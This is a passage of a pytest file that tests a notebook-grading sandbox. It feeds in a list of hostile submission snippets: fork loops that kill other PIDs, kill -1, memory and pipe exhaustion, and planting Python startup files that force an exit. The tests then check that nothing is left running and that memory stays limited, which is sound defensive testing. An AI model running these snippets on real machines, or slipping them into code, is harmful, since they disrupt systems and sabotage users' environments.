    "a war on whoever ends them": "for _ in range(4):\n    if os.fork() == 0:\n        os.setsid()\n        signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
    "        while True:\n            for pid in range({zygote}, {zygote} + 60):\n                with contextlib.suppress(OSError):\n"
    "                    if pid not in (os.getpid(), os.getppid()): os.kill(pid, 9)",
    "a kill of all": "with contextlib.suppress(OSError): os.kill(-1, 9)",
    "a kill of its group": "os.kill(0, 9)",
    "a stop of its group": "os.kill(0, signal.SIGSTOP)",
    "a stop of all": "with contextlib.suppress(OSError): os.kill(-1, signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)",
    "a thread that burns time": "def burn():\n    while True: pass\nthreading.Thread(target=burn, daemon=True).start()",
    "a thread that holds on": "threading.Thread(target=time.sleep, args=(1_000,)).start()",
    "an exit that is put off": "import atexit\natexit.register(time.sleep, 1_000)\nsys.exit = None\nsignal.signal(signal.SIGTERM, lambda *_: time.sleep(1_000))",
    "a call in the kernel": "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\nos.read(os.pipe()[0], 1)",
    "a vfork that waits": "with contextlib.suppress(Exception): call(58)\ntime.sleep(60)",
    "a deep folder": "with contextlib.suppress(OSError):\n    for _ in range(3_000): os.mkdir('d'); os.chdir('d')",
    "a channel given away": "if os.fork() == 0:\n    os.setsid()\n    time.sleep(1_000)\nos.close(3)",
    "memory": "x = []\nwhile True: x.append(bytearray(b'x' * (1 << 20)))",
    "memory that is shared": "x = []\nwhile True:\n    x.append(mmap.mmap(-1, 16 << 20)); x[-1].write(b'x' * (16 << 20))",
    "memory of children": "for _ in range(20):\n    if os.fork() == 0:\n        x = bytearray(b'x' * (100 << 20)); time.sleep(60)\ntime.sleep(60)",
    "memory of other programs": "for _ in range(20): subprocess.Popen([sys.executable, '-c', \"import time; x = b'x' * (100 << 20); time.sleep(60)\", '{word}'])\n"
    "time.sleep(60)",
    "memory as files": "for folder in ('/tmp', '/dev/shm'):\n    with contextlib.suppress(OSError):\n        for n in range(100):\n"
    "            with open(f'{{folder}}/{{n}}', 'wb') as file: file.write(b'x' * (15 << 20))",
    "memory in pipes": "x = []\nwith contextlib.suppress(OSError):\n    while True:\n        x.append(os.pipe()); os.set_blocking(x[-1][1], False)\n"
    "        with contextlib.suppress(BlockingIOError):\n            while True: os.write(x[-1][1], bytes(65536))",
    "a start-up file": "for folder in {{os.path.expanduser('~'), '.', os.environ['IPYTHONDIR'], os.environ['MPLCONFIGDIR']}}:\n"
    "    for name in ('.ipython/profile_default/startup', 'profile_default/startup', '.config/matplotlib', '.local/lib/python3.11/site-packages'):\n"
    "        with contextlib.suppress(OSError):\n            os.makedirs(f'{{folder}}/{{name}}')\n"
    "            for file in ('00.py', 'matplotlibrc', 'usercustomize.py', 'x.pth'): open(f'{{folder}}/{{name}}/{{file}}', 'w').write('import os; os._exit(1)')",
    "an oom score": "with contextlib.suppress(OSError): open('/proc/self/oom_score_adj', 'w').write('0')\nx = b'x' * (900 << 20)",
    "a segmentation fault": "ctypes.string_at(0)",
    "an overflow of the stack": "sys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
}


@pytest.mark.parametrize("name", LEFT)
def test_nothing_is_left_running(sandbox, secret, name):
    began = time.monotonic()
    source = LEFT[name].format(word=secret, zygote=sandbox._process.pid)
    loot_of(sandbox, source, seconds=0.4, whole=False)
    assert running(secret) == []
    assert time.monotonic() - began < 8


@pytest.fixture(scope="module")
def polled(sandbox):
    """A sandbox whose memory is looked at, since there is no control group."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(memory, "_new_group", lambda: (None, "", ""))
        with sandboxes.Sandbox(sandbox.level, LIMITS) as other:
            other.start()
            yield other


@pytest.mark.parametrize("name", ["memory", "memory that is shared", "memory of children", "memory of other programs"])
def test_memory_is_limited_without_a_control_group_too(polled, secret, name):
    most, over = [0], threading.Event()

    def look():
        while not over.wait(0.02):
            most.append(sum(map(memory._memory_of, processes(polled))))

    looking = threading.Thread(target=look)
    looking.start()
    _, graded = grade(
        polled, [PRELUDE, *notebook(softmax=f"{LEFT[name].format(word=secret, zygote=0)}\n{WRONG}")], draws=VISIBLE
    )
    over.set()
    looking.join()
    assert (running(secret), set(lost(graded))) == ([], {"softmax"})
    assert max(most) < (LIMITS.megabytes + 700) << 20
    assert lost(grade(polled, notebook(), draws=VISIBLE)[1]) == {}


# ----- the sandbox itself -----


def test_a_sandbox_that_was_killed_is_started_anew(sandbox):
    with sandboxes.Sandbox(sandbox.level, LIMITS) as other:
        other.start()
        with other.submission() as channel:
            other._process.kill()
            with pytest.raises(channels.Ended):
                channel.run("import time; time.sleep(5)", 10)
        assert lost(grade(other, notebook(), draws=VISIBLE)[1]) == {}


def test_nobody_is_blamed_for_a_sandbox_that_gives_no_process(sandbox):
    limits = dataclasses.replace(LIMITS, processes="none")
    with (
        sandboxes.Sandbox(sandbox.level, limits) as other,
        pytest.raises(sandboxes.SandboxFailed, match="TypeError"),
    ):
        grade(other, notebook())


def test_a_course_that_submissions_could_read_is_refused(monkeypatch, sandbox):
    monkeypatch.setattr(sandboxes, "ROOT", Path("/usr/src/course"))
    with sandboxes.Sandbox(sandbox.level) as other, pytest.raises(sandboxes.CourseError, match="move the course"):
        other.start()
